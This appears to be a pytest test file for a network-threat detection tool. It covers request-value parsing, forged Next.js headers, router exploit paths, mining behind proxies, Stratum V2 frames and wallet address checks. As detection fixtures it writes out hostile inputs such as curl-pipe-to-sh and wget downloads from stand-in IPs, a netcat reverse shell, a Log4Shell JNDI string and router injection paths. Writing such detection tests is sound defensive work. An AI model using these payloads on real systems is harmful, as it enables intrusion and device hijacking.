"""What a request's sender chose, value by value; headers that only tools send; whom a request is meant for; who mines
behind a proxy or at the wrong end; Stratum V2's first frame; wallets of every coin, whole and damaged."""

from __future__ import annotations

import base64
import json
import struct
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kanaria.core import schema
from kanaria.mining.addresses import BECH32_PREFIXES, eip55, identify
from kanaria.mining.behind_proxies import TARGET, asked_on_the_wire, behind_proxies
from kanaria.mining.deeds import read
from kanaria.mining.payload import enrich
from kanaria.mining.payload_action import forged_action, subrequest
from kanaria.mining.payload_aim import at_router, merely_quoted
from kanaria.mining.request_values import MOST_VALUES, Value, further, in_pieces, values
from kanaria.mining.roles import by_roles
from kanaria.mining.stratum import decode
from kanaria.mining.stratum_v2 import setup_connection
from kanaria.mining.wallets import find_addresses, split_login

Said = list[tuple[str, str, str]]


def said(**record: object) -> Said:
    return [(value.place, value.name, value.text) for value in values(record)]


class TestValues:
    @pytest.mark.parametrize(
        ("url", "expected"),
        [
            ("/", [("path", "", "/")]),
            ("/a?b=c", [("path", "", "/a"), ("parameter", "b", "c")]),
            ("/a?b=c&d=e", [("path", "", "/a"), ("parameter", "b", "c"), ("parameter", "d", "e")]),
            ("/a?B=C", [("path", "", "/a"), ("parameter", "b", "C")]),
            ("/a?b=c&d", [("path", "", "/a"), ("parameter", "b", "c&d")]),
            ("/a?cmd=x&&y", [("path", "", "/a"), ("parameter", "cmd", "x&&y")]),
            ("/a?b[0]=c&b[1]=d", [("path", "", "/a"), ("parameter", "b[0]", "c"), ("parameter", "b[1]", "d")]),
            ("/a?b%5B0%5D=c", [("path", "", "/a"), ("parameter", "b[0]", "c")]),
            ("/a?just+words", [("path", "", "/a"), ("parameter", "", "just+words")]),
            ("/a?d2hvYW1p==", [("path", "", "/a"), ("parameter", "", "d2hvYW1p==")]),
            ("/a?", [("path", "", "/a")]),
            ("/a?b=", [("path", "", "/a"), ("parameter", "", "b=")]),
            ("/a?b=c=d", [("path", "", "/a"), ("parameter", "b", "c=d")]),
            ("/a?b=c?d", [("path", "", "/a"), ("parameter", "b", "c?d")]),
        ],
        ids=lambda value: value if isinstance(value, str) else "",
    )
    def test_of_an_address(self, url: str, expected: Said) -> None:
        assert said(url=url) == expected

    @pytest.mark.parametrize(
        ("body", "expected"),
        [
            ("a=b&c=d", [("body", "a", "b"), ("body", "c", "d")]),
            ('{"a": "b", "c": {"D": "e"}}', [("body", "a", "b"), ("body", "d", "e")]),
            ('{"Cmd": ["sh", "-c", "id; ls"]}', [("body", "cmd", "sh -c 'id; ls'")]),
            ('["one"]', [("body", "", "one")]),
            ('{"a": [{"b": "c"}, {"b": "d"}]}', [("body", "b", "c"), ("body", "b", "d")]),
            ('{"a": 1, "b": null, "c": true, "d": ""}', []),
            ('{"a": ', [("body", "", '{"a": ')]),
            ("<xml>a</xml>", [("body", "", "<xml>a</xml>")]),
            ("plain words", [("body", "", "plain words")]),
            ("", []), ("-", []),
        ],
        ids=str,
    )  # fmt: skip
    def test_of_a_body(self, body: str, expected: Said) -> None:
        assert said(request_body=body) == expected

    def test_of_a_form_in_parts(self) -> None:
        body = (
            '--x\r\nContent-Disposition: form-data; name="File"; filename="a.php"\r\nContent-Type: text/plain\r\n\r\n'
            '<?php a\r\n--x\r\nContent-Disposition: form-data; name="other"\r\n\r\nb\r\n--x--'
        )
        assert [(name, text.split("\r\n")[0]) for _place, name, text in said(request_body=body)] == [("file", "<?php a"), ("other", "b")]  # fmt: skip

    def test_of_headers(self) -> None:
        found = said(url="/", user_agent="curl/8", referer="https://search.example/?q=x", user="bob", host="a.example")
        assert found == [("path", "", "/"), ("header", "user_agent", "curl/8"), ("header", "user", "bob"), ("header", "host", "a.example")]  # fmt: skip
        assert ("header", "referer", "${jndi:x}") in said(url="/", referer="${jndi:x}")

    def test_the_request_counts_where_no_address_was_read(self) -> None:
        assert said(url=None, request=b'{"id":1}') == [("path", "", '{"id":1}')]

    def test_there_are_at_most_so_many(self) -> None:
        assert len(values({"url": "/?" + "&".join(f"a{n}=b" for n in range(5 * MOST_VALUES))})) == MOST_VALUES

    @given(st.text(max_size=200), st.text(max_size=200))
    def test_any_text_has_values(self, url: str, body: str) -> None:
        found = values({"url": url, "request_body": body.encode("utf-8", "replace")})
        assert all(value.text not in ("", "-") for value in found)

    @given(
        st.recursive(
            st.text(max_size=5), lambda x: st.lists(x, max_size=3) | st.dictionaries(st.text(max_size=3), x, max_size=3)
        )
    )
    def test_any_json_has_values(self, document: object) -> None:
        assert isinstance(values({"request_body": json.dumps(document)}), list)


class TestInPieces:
    @pytest.mark.parametrize(
        ("url", "whole"),
        [
            ("/a?x=1&y=;curl+http://a.example", "1+;curl+http://a.example"), ("/a?x=ls&y=%7Csh", "ls+%7Csh"),
            ("/a?x=ls&y=%26%26id", "ls+%26%26id"), ("/a?x=1&y=2", None), ("/a?x=;id", None),
        ],
    )  # fmt: skip
    def test_a_command_cut_into_parameters_is_put_together(self, url: str, whole: str | None) -> None:
        assert [value.text for value in in_pieces(values({"url": url}))] == ([whole] if whole else [])


class TestBeside:
    def test_a_cookie_in_a_line_of_ones_own_is_found(self) -> None:
        record = {
            "url": "/",
            "raw": b'203.0.113.7 "GET / HTTP/1.1" 200 "session=${jndi:ldap://x}" "Mozilla"',
            "user_agent": "Mozilla",
        }
        assert "session=${jndi:ldap://x}" in [value.text for value in further(record)]

    def test_what_a_column_holds_is_left_out_however_it_is_escaped(self) -> None:
        record = {"url": "/?q=<b>", "user_agent": 'a"b', "raw": b'"GET /?q=%3Cb%3E HTTP/1.1" "a\\x22b"'}
        assert [value.text for value in further(record)] == []

    @pytest.mark.parametrize("quote_mark", ['"', "\\x22", "%22", "\\u0022"])
    def test_a_pasted_installer_is_excused_however_the_log_escapes_its_neighbour(self, quote_mark: str) -> None:
        """It was judged a second time, as a header of no name, where no field for text excuses it."""
        url = '/share?x="a"&text=curl%20-sSL%20https%3A%2F%2Finstall.example.org%20%7C%20bash'
        logged = url.replace('"', quote_mark)
        raw = f'203.0.113.7 - - [10/Nov/2026:10:00:00 +0000] "GET {logged} HTTP/1.1" 200 150 "-" "Mozilla/5.0"'.encode()
        table = enrich(schema.from_rows("http", [{"url": url, "method": "GET", "raw": raw}]))
        assert table["payload.does"].to_pylist() == [None]

    def test_what_the_server_wrote_is_left_out(self) -> None:
        raw = json.dumps(
            {"headers": {"X-Api": "curl http://a.example|sh"}, "response": {"Set-Cookie": "wget x"}, "error": "curl y"}
        )
        found = [(value.name, value.text) for value in further({"url": "/", "raw": raw.encode()})]
        assert found == [("x-api", "curl http://a.example|sh")]


ID40, ID42 = "ab" * 20, "7f" + "ab" * 20


class TestHeadersOfTools:
    @pytest.mark.parametrize(
        ("raw", "value"),
        [
            ('"Next-Action":"x"', "x"), ('"next-action": "deadbeef"', "deadbeef"), ("Next-Action: x\r\n", "x"),
            ('{"headers":{"Next-Action":["x"]}}', "x"), ('{"name":"Next-Action","value":"x"}', "x"),
            ('\\"next-action\\":\\"x\\"', "x"), ("next_action=x", "x"), (f'"Next-Action":"{ID40}"', None),
            (f'"Next-Action":"{ID42}"', None), ('"Next-Action":"-"', None), ('"Next-Action":"null"', None),
            ('"Next-Action":"***"', None), ('"action":"login"', None), ("", None), ("Next-Action", None),
        ],
        ids=str,
    )  # fmt: skip
    def test_an_action_no_build_gave(self, raw: str, value: str | None) -> None:
        assert forged_action({"raw": raw.encode()}) == value

    @pytest.mark.parametrize(
        ("raw", "told"),
        [
            ('"x-middleware-subrequest":"middleware"', "middleware"),
            ("X-Middleware-Subrequest: src/middleware:src/middleware\r\n", "src/middleware:src/middleware"),
            ('{"X-Middleware-Subrequest":["pages/_middleware"]}', "pages/_middleware"), ('"x-middleware-subrequest":"-"', None),
            ('"x-middleware-rewrite":"/a"', None), ("subrequest", None),
        ],
        ids=str,
    )  # fmt: skip
    def test_a_request_that_calls_itself_inner(self, raw: str, told: str | None) -> None:
        assert subrequest({"raw": raw.encode()}) == (told and f"x-middleware-subrequest: {told}")

    def test_without_a_record_nothing_is_said(self) -> None:
        assert forged_action({"raw": None}) is None
        assert subrequest({}) is None


class TestAim:
    @pytest.mark.parametrize(
        "url",
        [
            "/GponForm/diag_Form?images/", "/boaform/admin/formLogin", "/HNAP1/", "/setup.cgi?next_file=netgear.cfg",
            "/cgi-bin/luci/;stok=/locale", "/goform/set_LimitClient_cfg", "/language/Swedish${IFS}&&x", "/shell?cd+/tmp;x",
            "/device.rsp?opt=sys&cmd=x", "/tmUnblock.cgi", "/UD/act?1", "http://203.0.113.1:80/HNAP1/", "//boaform/x",
        ],
    )  # fmt: skip
    def test_paths_of_routers(self, url: str) -> None:
        assert at_router({"url": url}, "")

    @pytest.mark.parametrize(
        "url",
        [
            "/",
            "/index.php",
            "/hnap",
            "/blog/goform/x",
            "/cgi-bin/../bin/sh",
            "/api?x=/HNAP1",
            "/shell",
            "/goform/../../bin/sh",
            "/boaform/%2e%2e/x",
        ],
    )
    def test_paths_of_others(self, url: str) -> None:
        assert not at_router({"url": url}, "")

    @pytest.mark.parametrize(
        ("program", "router"),
        [("wget http://203.0.113.9/mips", True), ("wget http://a/Mozi.m", True), ("wget http://203.0.113.9/x.sh", False),
         ("wget http://203.0.113.9/mipsy", False), ("wget http://203.0.113.9/arm7", True)],
    )  # fmt: skip
    def test_programs_of_routers(self, program: str, router: bool) -> None:
        assert at_router({"url": "/"}, program) is router

    @pytest.mark.parametrize(
        ("place", "name", "text", "quoted"),
        [
            ("parameter", "q", "curl -sSL https://install.example.org | bash", True),
            ("parameter", "text", "how to run: wget https://get.example.org/x", True),
            ("body", "comment", "sudo apt install curl && curl https://a.example.org/x | sh", False),
            ("parameter", "cmd", "curl -sSL https://install.example.org | bash", False),
            ("parameter", "q", "curl -s http://203.0.113.9/x|sh", False),
            ("parameter", "q", "; curl https://install.example.org | bash", False),
            ("path", "", "curl https://install.example.org | bash", False),
            ("header", "user_agent", "curl https://install.example.org | bash", False),
            ("parameter", "q", "nc -e /bin/sh a.example.org 4444", False),
        ],
    )
    def test_what_somebody_pasted(self, place: str, name: str, text: str, quoted: bool) -> None:
        deeds = read(text)
        if (
            name == "comment"
        ):  # what an installer does beside fetching is not told apart here: only that it is from a name
            quoted = bool(deeds.remotes) and merely_quoted(Value(place, "comment", text), text, deeds)
        assert merely_quoted(Value(place, name, text), text, deeds) is quoted


def connection(**row: object) -> Any:
    blank: dict[str, object] = {
        "event_id": 1, "src_ip": "192.168.1.20", "src_port": 41234, "dst_ip": "192.168.1.1", "dst_port": 8080,
        "transport": "tcp", "direction": "internal", "device": "192.168.1.1", "remote": "192.168.1.20",
    }  # fmt: skip
    return schema.from_rows("connection", [{**blank, **row}])


class TestWhoMines:
    @pytest.mark.parametrize(
        ("client", "server", "target"),
        [
            (b"CONNECT pool.example.org:3333 HTTP/1.1\r\nHost: x\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n", "pool.example.org:3333"),
            (b"CONNECT POOL.example.org:443 HTTP/1.0\r\n\r\n", b"", "pool.example.org:443"),
            (b"CONNECT [2001:db8::7]:3333 HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n", "[2001:db8::7]:3333"),
            (b"CONNECT pool.example.org:3333 HTTP/1.1\r\n\r\n", b"HTTP/1.1 403 Forbidden\r\n\r\n", None),
            (b"GET http://pool.example.org:3333/ HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n", None),
        ],
    )  # fmt: skip
    def test_behind_a_proxy_is_whom_was_asked_for(self, client: bytes, server: bytes, target: str | None) -> None:
        (row,) = behind_proxies(connection(src_first=client, dst_first=server)).to_pylist()
        assert row[TARGET] == target
        if target:
            host = target.rpartition(":")[0].strip("[]")
            assert (row["remote"], row["device"], row["direction"]) == (host, "192.168.1.20", "outbound")
            assert row["dst_ip"] == "192.168.1.1", "the network saw the proxy"
        else:
            assert (row["device"], row["direction"]) == ("192.168.1.1", "internal")

    @pytest.mark.parametrize(("status", "told"), [(200, True), (299, True), (403, False), (407, False), (None, False)])
    def test_a_request_to_a_proxy_counts_when_it_was_granted(self, status: int | None, told: bool) -> None:
        row = {"event_id": 1, "method": "CONNECT", "url": "pool.example.org:3333", "status": status, "direction": "internal",
               "src_ip": "192.168.1.20", "dst_ip": "192.168.1.1", "remote": "192.168.1.1"}  # fmt: skip
        (found,) = asked_on_the_wire(schema.from_rows("http", [row])).to_pylist()
        assert found["remote"] == ("pool.example.org" if told else "192.168.1.1")

    def test_a_miner_that_was_called_is_the_client_from_then_on(self) -> None:
        table = connection(src_ip="203.0.113.9", dst_ip="192.168.1.20", direction="inbound", device="192.168.1.20",
                           remote="203.0.113.9", src_bytes=10, dst_bytes=90,
                           messages=[{"from_client": True, "length": 5}, {"from_client": False, "length": 7}])  # fmt: skip
        (row,) = by_roles(table, {0: True}).to_pylist()
        assert (row["src_ip"], row["dst_ip"], row["direction"]) == ("192.168.1.20", "203.0.113.9", "outbound")
        assert (row["src_bytes"], row["dst_bytes"]) == (90, 10)
        assert [message["from_client"] for message in row["messages"]] == [False, True]
        assert (row["device"], row["remote"]) == ("192.168.1.20", "203.0.113.9")

    def test_between_two_of_ours_it_is_told_of_the_miner(self) -> None:
        (row,) = by_roles(connection(), {0: False}).to_pylist()
        assert (row["device"], row["remote"]) == ("192.168.1.20", "192.168.1.1")

    def test_rows_that_do_not_mine_stay_as_they_are(self) -> None:
        table = connection()
        assert by_roles(table, {}).equals(table)


def setup(**more: Any) -> bytes:
    given = {"protocol": 0, "lowest": 2, "highest": 2, "flags": 0, "host": b"pool.example.org", "vendor": b"Miner",
             "hardware": b"S19", "firmware": b"1.2", "device": b"rig7"} | more  # fmt: skip
    body = bytes([given["protocol"]]) + struct.pack("<HHI", given["lowest"], given["highest"], given["flags"])
    body += bytes([len(given["host"])]) + given["host"] + struct.pack("<H", 3336)
    body += b"".join(bytes([len(given[name])]) + given[name] for name in ("vendor", "hardware", "firmware", "device"))
    return bytes((0, 0, 0)) + len(body).to_bytes(3, "little") + body


class TestStratumV2:
    def test_its_first_frame_says_who_mines_where(self) -> None:
        shape = setup_connection(setup())
        assert shape is not None
        assert (shape.dialect, shape.agent, shape.worker) == ("stratum_v2", "Miner 1.2", "rig7")
        assert shape.fields == {"protocol": "mining", "host": "pool.example.org"}

    @pytest.mark.parametrize(("number", "name"), [(0, "mining"), (1, "job_declaration"), (2, "template_distribution")])
    def test_each_of_its_protocols_is_named(self, number: int, name: str) -> None:
        shape = setup_connection(setup(protocol=number))
        assert shape is not None and shape.fields["protocol"] == name

    @pytest.mark.parametrize(
        "more",
        [{"protocol": 3}, {"lowest": 1}, {"lowest": 3, "highest": 2}, {"highest": 99}, {"flags": 1 << 9}, {"host": b"\x01\x02"}],
        ids=str,
    )  # fmt: skip
    def test_what_only_begins_so_is_not_it(self, more: dict[str, Any]) -> None:
        assert setup_connection(setup(**more)) is None

    @given(st.binary(max_size=120))
    def test_any_bytes_behind_its_header_are_read(self, data: bytes) -> None:
        shape = setup_connection(bytes((0, 0, 0)) + len(data).to_bytes(3, "little") + data)
        assert shape is None or shape.dialect == "stratum_v2"

    def test_it_is_told_by_the_decoder(self) -> None:
        (found,) = decode(setup(), direction="client")
        assert (found.dialect, found.method, found.worker) == ("stratum_v2", "SetupConnection", "rig7")


_CHARSET = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _checked(values_: list[int], generators: tuple[int, ...], width: int, constant: int) -> list[int]:
    """The check symbols of bech32 (six) and CashAddr (eight)."""
    size, check = width // 5, 1
    for value in [*values_, *[0] * size]:
        top, check = check >> (width - 5), (check & ((1 << (width - 5)) - 1)) << 5 ^ value
        for bit, generator in enumerate(generators):
            check ^= generator if top >> bit & 1 else 0
    check ^= constant
    return [check >> 5 * (size - 1 - place) & 31 for place in range(size)]


def bech32(prefix: str, data: list[int], constant: int = 1) -> str:
    expanded = [ord(c) >> 5 for c in prefix] + [0] + [ord(c) & 31 for c in prefix]
    generators = (0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3)
    return prefix + "1" + "".join(_CHARSET[v] for v in data + _checked(expanded + data, generators, 30, constant))


def cashaddr(prefix: str, data: list[int]) -> str:
    generators = (0x98F2BC8E61, 0x79B76D99E2, 0xF33E5FB3C4, 0xAE2EABE2A8, 0x1E4F43E470)
    return f"{prefix}:" + "".join(
        _CHARSET[v] for v in data + _checked([ord(c) & 31 for c in prefix] + [0] + data, generators, 40, 1)
    )


BODY = [n % 32 for n in range(33)]
WALLETS = {
    **{f"{prefix} bech32": (bech32(prefix, BODY), coin) for prefix, coin in BECH32_PREFIXES.items()},
    **{f"{prefix} bech32m": (bech32(prefix, BODY, 0x2BC830A3), coin) for prefix, coin in BECH32_PREFIXES.items()},
    "bitcoincash": (cashaddr("bitcoincash", [*BODY, 0]), "BCH"),
    "kaspa": (cashaddr("kaspa", [*BODY, *BODY][:53]), "KAS"),
    "ethereum": (eip55("0x" + "9c" * 20), "ETH"),
}


class TestWallets:
    @pytest.mark.parametrize("name", WALLETS)
    def test_a_whole_one_is_valid_and_of_its_coin(self, name: str) -> None:
        text, coin = WALLETS[name]
        found = identify(text)
        assert found is not None
        assert (found.coin, found.valid) == (coin, True)

    @pytest.mark.parametrize("name", WALLETS)
    def test_one_wrong_character_anywhere_makes_it_invalid(self, name: str) -> None:
        text, _coin = WALLETS[name]
        begin = max(text.rfind("1", 0, 9), text.find(":"), 1) + 1
        for place in range(begin, len(text), 3):
            other = "q" if text[place] not in "qQ" else "p"
            if name == "ethereum":
                other = text[place].swapcase() if text[place].isalpha() else None  # type: ignore[assignment]
                if other is None:
                    continue
            found = identify(text[:place] + other + text[place + 1 :])
            assert found is None or found.valid is False, place

    @pytest.mark.parametrize("name", WALLETS)
    @pytest.mark.parametrize("behind", [".rig", "/rig", "+5000.rig", ".rig/a@example.com"])
    def test_it_is_told_from_what_a_login_puts_behind_it(self, name: str, behind: str) -> None:
        text, coin = WALLETS[name]
        login = split_login(text + behind)
        assert (login.wallet, login.worker) == (text, "rig")
        assert login.address is not None and login.address.coin == coin

    @pytest.mark.parametrize("name", ["bc bech32", "tb bech32m", "ltc bech32", "bitcoincash", "kaspa", "ethereum"])
    def test_it_is_found_in_a_text(self, name: str) -> None:
        text, _coin = WALLETS[name]
        assert [one.text for one in find_addresses(f"send it to {text}, please ({text})")] == [text]

    @pytest.mark.parametrize("name", sorted(name for name in WALLETS if "bech32" in name))
    def test_capitals_count_when_all_are(self, name: str) -> None:
        text, coin = WALLETS[name]
        found = identify(text.upper())
        assert found is not None and (found.coin, found.valid) == (coin, True)
        assert identify(text[:6] + text[6:].upper()) is None

    def test_a_login_in_base64_is_read_with_its_wallet(self) -> None:
        text, _coin = WALLETS["kaspa"]
        message = json.dumps({"id": 1, "method": "mining.authorize", "params": [f"{text}.rig", "x"]})
        (found,) = decode(base64.b64encode(message.encode()))
        assert (found.wallet, found.coin, found.wallet_valid) == (text, "KAS", True)
